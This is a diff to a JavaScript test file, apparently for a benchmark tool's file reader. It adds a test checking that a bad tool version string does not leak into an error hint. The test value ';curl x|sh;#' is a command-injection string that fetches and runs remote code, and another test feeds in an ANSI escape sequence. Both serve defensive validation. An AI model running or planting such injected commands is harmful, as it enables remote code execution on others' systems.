@@ -91,6 +91,14 @@ describe('a result of a newer version', () => {
   })
 })
 
+test('a version that is none becomes no part of a hint', async () => {
+  const newer = written((cases, whole) => {
+    for (const one of cases) one.transport = 'homa'
+    whole.tool = { ...doc.tool, version: ';curl x|sh;#' }
+  })
+  await expect(read(newer)).rejects.toMatchObject({ hint: 'xrbench of another version reads it' })
+})
+
 test('what is no name is a fault of the file, not news', async () => {
   for (const name of ['', 'a ghost', '\u001b[31m', 'x'.repeat(33), 7, null]) {
     const wrong = written((cases) => Object.assign(first(cases), { transport: name }))
